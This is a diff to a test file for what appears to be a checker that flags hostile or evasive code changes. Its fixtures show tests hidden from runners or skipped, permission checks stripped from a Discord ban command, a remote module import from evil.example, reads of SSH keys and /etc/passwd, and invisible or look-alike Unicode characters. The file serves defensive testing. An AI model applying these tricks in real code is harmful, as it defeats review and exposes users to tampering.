@@ -51,6 +51,24 @@ TESTS: dict[str, tuple[Files, Files]] = {
         {"test_a.py": f"import pytest\n\n\n@pytest.mark.skip\n{PAYS.replace('test_pays', 'test_pays_now')}"},
     ),
     "moved to where no runner looks": ({"test_a.py": PAYS}, {"test_a.py": None, "till/old.py": PAYS}),
+    "moved to where pytest does not look": ({"test_a.py": PAYS}, {"test_a.py": None, "tests/data.py": PAYS}),
+    "moved to what is skipped": (
+        {"test_a.py": PAYS},
+        {"test_a.py": None, "test_b.py": f"import pytest\n\npytestmark = pytest.mark.skip\n\n\n{PAYS}"},
+    ),
+    "a table by a comment": (
+        {"test_a.py": PAYS + OWES},
+        {"test_a.py": PAYS.replace("== 1", "== one  # (5, -2)")},
+    ),
+    "a table by what it says of itself": (
+        {"test_a.py": PAYS + OWES},
+        {"test_a.py": PAYS.replace("():", '():\n    """Of\n    5, -2\n    """').replace("== 1", "== one")},
+    ),
+    "moved to what is not built": (
+        {"a_test.go": IN_GO % GO_PAYS},
+        {"a_test.go": None, "b_test.go": f"//go:build never\n\n{IN_GO % GO_PAYS}"},
+    ),
+    "moved to what Node's runner does not find": ({"a.test.js": JS_PAYS}, {"a.test.js": None, "test/a.js": JS_PAYS}),
     "moved in half": ({"test_a.py": PAYS + OWES}, {"test_a.py": None, "tests/test_b.py": OWES}),
     "moved and emptied": (
         {"test_a.py": PAYS},
@@ -105,7 +123,10 @@ HONEST_TESTS: dict[str, tuple[Files, Files]] = {
         },
     ),
     "a file with another name": ({"test_a.py": PAYS + OWES}, {"test_a.py": None, "tests/test_till.py": OWES + PAYS}),
-    "another file of Go": ({"a_test.go": IN_GO % GO_PAYS}, {"a_test.go": None, "till_test.go": IN_GO % GO_PAYS}),
+    "another file of Go": (
+        {"a_test.go": IN_GO.replace('"testing"', '"example.com/assert"') % GO_PAYS},
+        {"a_test.go": None, "till_test.go": IN_GO % GO_PAYS},
+    ),
     "a function of Go with another name": (
         {"a_test.go": IN_GO % GO_PAYS},
         {"a_test.go": IN_GO % GO_PAYS.replace("TestPays", "TestLeft").replace("Rest()", "Left()")},
@@ -150,7 +171,15 @@ NODE = {
     "all that is given": "fs.rmSync(...options);",
     "a stub in a program": "fs.rmSync = options.remove;",
 }
+NODE |= {
+    "a module from an address": "import('https://evil.example/a.mjs').then((m) => m.run());",
+    "a module from a text": "import('data:text/javascript,run()');",
+    "a global by a made name": "globalThis[options.name](at);",
+    "a global by a made name, and then": "const run = (window[options.name] = window[options.other]); run(at);",
+    "a class that is made": "const { Server } = require('https'); new Server(options).listen(1);",
+}
 HONEST_NODE = {
+    "a class that is asked for": "const { Server } = require('https'); if (at instanceof Server) return null;",
     "an address that is looked at": "const net = require('node:net'); if (net.isIP(at) || net.isIPv6(at)) return null;",
     "a file": "fs.rmSync(at, { force: true });",
     "a file, and then": "fs.rm(at, () => options.done());",
@@ -167,7 +196,13 @@ NODE_TEST = {
     "a place that is opened": "files.open('/home/a/.ssh/id_rsa');",
     "a stub for what starts programs": "const cp = require('child_process'); cp.exec = () => 1; cp.exec('id');",
 }
+NODE_TEST |= {
+    "a process handed on": "use(process);",
+    "a process handed on to what spies": "spyOn(process, name);",
+    "a process that is spied on alone": "jest.spyOn(process);",
+}
 HONEST_NODE_TEST = {
+    "a function that is spied on": "jest.spyOn(process, 'exit').mockImplementation(() => 1);",
     "a stub": "const kept = net.connect; net.connect = () => 1; try { join(); } finally { net.connect = kept; }",
     "a stub alone": "http.get = () => 1;",
     "a place that is only said": "expect(clean('../../etc/passwd')).toBe('');",
@@ -214,9 +249,19 @@ PYTHON_TEST = {
     "what a module has by a text": "getattr(sarge, name)('id')",
     "a program by the name of quotes": "from sarge import run as shell_quote; shell_quote('id')",
 }
+PYTHON_TEST |= {
+    "a package that stands elsewhere": "subprocess.run([sys.executable, '-m', 'shop'], cwd=at)",
+    "a package that stands where the test goes": "os.chdir(at); subprocess.run([sys.executable, '-m', 'shop'])",
+    "a place for programs, by a fixture": "monkeypatch.setenv('PATH', at); subprocess.run(['shop'])",
+    "an invisible letter of the code": "a\u3164b = 1",
+    "a text that turns": "assert clean('a\u202eb') == ''",
+    "a name that looks like another": "p\u0430y = 1",
+}
 HONEST_PYTHON_TEST = {
+    "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
+    "a word that looks like another": "assert clean('p\u0430y') == 'pay'",
     "the program": "assert subprocess.run(['shop', 'add', 'tea'], capture_output=True, timeout=9).returncode == 1",
-    "the program as a package": "assert subprocess.run([sys.executable, '-m', 'shop', 'add'], cwd=at).returncode == 1",
+    "the program as a package": "assert subprocess.run([sys.executable, '-m', 'shop', 'add'], timeout=9).returncode == 1",
     "a place that is turned away": "assert not may_ask('http://169.254.169.254/latest')",
     "quotes": "assert sarge.shell_quote('a b') == done('a b')",
 }
@@ -248,6 +293,18 @@ GO_AGAIN = {
     "a place that is read": 'os.ReadFile("/etc/passwd")',
     "a place that is opened": 'files.Open("/root/.ssh/id_rsa")',
 }
+OWN = "\n}\n\ntype own struct{}\n\nfunc (own) RoundTrip(r *http.Request) (*http.Response, error) {\n\t%s"
+GO_ANSWERS = {
+    "what goes on": "ask(&http.Client{Transport: own{}})" + OWN % "return other.RoundTrip(r)",
+    "what goes on by default": "ask(&http.Client{Transport: own{}})" + OWN % "return http.DefaultClient.Do(r)",
+    "what is set afterwards": "c := &http.Client{Transport: own{}}; c.Transport = real; ask(c)"
+    + OWN % "return nil, nil",
+    "what another file has": "ask(&http.Client{Transport: made()})" + OWN % "return nil, nil",
+    "a name for something else": "own := made; ask(&http.Client{Transport: own(1)})" + OWN % "return nil, nil",
+    "what has it from another": "ask(&http.Client{Transport: all{}})\n}\n\ntype all struct {\n\thttp.RoundTripper",
+    "a client without": "ask(&http.Client{Timeout: 1}); c.Get(place)" + OWN % "return nil, nil",
+}
+HONEST_GO_ANSWERS = {"what answers": "ask(&http.Client{Transport: &own{}, Timeout: 1})" + OWN % "return nil, nil"}
 HONEST_GO_AGAIN = {
     "the same": f"{AGAIN}u.Limit = 3; os.RemoveAll(user.Home())",
     "the same place": 'ssh.Dial("tcp", place, nil)',
@@ -282,6 +339,38 @@ MIGRATIONS = {
 HONEST_MIGRATIONS = {"undone": ("", "    op.drop_constraint('ck_teas_few', 'teas')\n    op.drop_table('teas')")}
 
 
+COG = (
+    "from discord.ext import commands\n\n\nclass Till(commands.Cog):\n    async def cog_check(self, ctx):\n"
+    "        return await self.bot.is_owner(ctx.author)\n\n    @commands.command()\n"
+    "    @commands.has_permissions(ban_members=True)\n"
+    "    async def ban(self, ctx, who):\n        reason = f'asked by {ctx.author}'\n"
+    "        await ctx.guild.ban(who, reason=reason)\n        await ctx.send(f'{who} is banned')\n\n"
+    "    @commands.command()\n    async def pay(self, ctx):\n        await ctx.send('paid')\n"
+)
+CHECK = COG[COG.index("    async def cog_check") : COG.index("    @commands")]
+BAN = COG[COG.index("    @commands") : COG.index("    @commands.command()\n    async def pay")]
+OPEN = BAN.replace("    @commands.has_permissions(ban_members=True)\n", "")
+DOES = "send('paid')\n        await ctx.guild.ban(who, reason=reason)"
+LISTENS = COG.replace("@commands.command()\n    @commands.has", "@commands.Cog.listener()\n    @commands.has")
+COGS: dict[str, tuple[Files, Files]] = {
+    "a check that the library calls": ({"till.py": COG}, {"till.py": COG.replace(CHECK, "")}),
+    "a check that is left off": ({"till.py": COG}, {"till.py": COG.replace(BAN, OPEN)}),
+    "a command by another name": (
+        {"till.py": COG},
+        {"till.py": COG.replace(BAN, OPEN.replace("def ban", "def remove"))},
+    ),
+    "a command that moved": ({"till.py": COG}, {"till.py": COG.replace(BAN, ""), "mod.py": OPEN}),
+    "what a command did": ({"till.py": COG}, {"till.py": COG.replace(BAN, "").replace("send('paid')", DOES)}),
+    "what a listener turned away": (
+        {"till.py": LISTENS},
+        {"till.py": LISTENS.replace(BAN.replace("@commands.command()", "@commands.Cog.listener()"), "")},
+    ),
+}
+HONEST_COGS: dict[str, tuple[Files, Files]] = {
+    "a command that is gone": ({"till.py": COG}, {"till.py": COG.replace(BAN, "")})
+}
+
+
 def refused(before: Files, after: Files) -> list[str]:
     files = {path: None if text is None else text.encode() for path, text in after.items()}
     tree = {path: text for path, text in before.items() if text is not None}
@@ -299,6 +388,12 @@ def in_python(line: str) -> list[str]:
 
 def in_go(line: str) -> list[str]:
     return in_file("shop/shop_test.go", GO_TEST, f"{GO_TEST}\nfunc TestNew(t *testing.T) {{\n\t{line}\n}}\n")
+
+
+def answers(line: str) -> list[str]:
+    before = 'package shop\n\nimport (\n\t"net/http"\n\t"testing"\n)\n\nfunc TestOld(t *testing.T) {\n\tLINE\n}\n'
+    asks = 'r, _ := http.NewRequest("GET", "http://example.com", nil); use(r); '
+    return in_file("shop/ask_test.go", before.replace("LINE", ""), before.replace("LINE", asks + line))
 
 
 def in_node(line: str) -> list[str]:
@@ -324,23 +419,27 @@ def starts(body: str) -> list[str]:
 
 _HOSTILE = [
     *((refused, rows, name) for name, rows in TESTS.items()),
+    *((refused, rows, name) for name, rows in COGS.items()),
     *((in_file, rows, name) for name, rows in CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in NODE.items()),
     *((in_node_test, (line,), name) for name, line in NODE_TEST.items()),
     *((starts, (body,), name) for name, body in MAINS.items()),
     *((in_python, (line,), name) for name, line in PYTHON_TEST.items()),
     *((in_go, (line,), name) for name, line in GO_AGAIN.items()),
+    *((answers, (line,), name) for name, line in GO_ANSWERS.items()),
     *((sends, (line,), name) for name, line in GO_SENDS.items()),
     *((migrates, (lines,), name) for name, lines in MIGRATIONS.items()),
 ]
 _HONEST = [
     *((refused, rows, name) for name, rows in HONEST_TESTS.items()),
+    *((refused, rows, name) for name, rows in HONEST_COGS.items()),
     *((in_file, rows, name) for name, rows in HONEST_CONDITIONS.items()),
     *((in_node, (line,), name) for name, line in HONEST_NODE.items()),
     *((in_node_test, (line,), name) for name, line in HONEST_NODE_TEST.items()),
     *((starts, (body,), name) for name, body in HONEST_MAINS.items()),
     *((in_python, (line,), name) for name, line in HONEST_PYTHON_TEST.items()),
     *((in_go, (line,), name) for name, line in HONEST_GO_AGAIN.items()),
+    *((answers, (line,), name) for name, line in HONEST_GO_ANSWERS.items()),
     *((sends, (line,), name) for name, line in HONEST_GO_SENDS.items()),
     *((migrates, (lines,), name) for name, lines in HONEST_MIGRATIONS.items()),
 ]
